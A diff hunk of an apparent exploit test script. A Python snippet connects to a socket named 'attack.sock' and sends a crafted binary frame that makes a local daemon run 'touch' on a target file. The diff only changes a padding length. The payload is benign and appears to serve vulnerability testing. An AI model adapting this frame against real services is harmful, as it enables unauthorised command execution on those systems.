@@ -563,7 +563,7 @@ print(keeper.recv(1000), flush=True)
 client = connect("/tmp/attack.sock")
 client.sendall(frame(1, struct.pack(">6I3B", int(version), 1, 1, *6 * [0]) + text("")
     + text("") + struct.pack(">I", 0o22) + 16 * struct.pack(">Q", 2**64 - 1) + text("/")
-    + 3 * text("") + bytes(22) + texts("touch", target) + texts("PATH=/bin:/usr/bin")))
+    + 3 * text("") + bytes(26) + texts("touch", target) + texts("PATH=/bin:/usr/bin")))
 print(client.recv(1000)[4], flush=True)
 time.sleep(1000)
 """
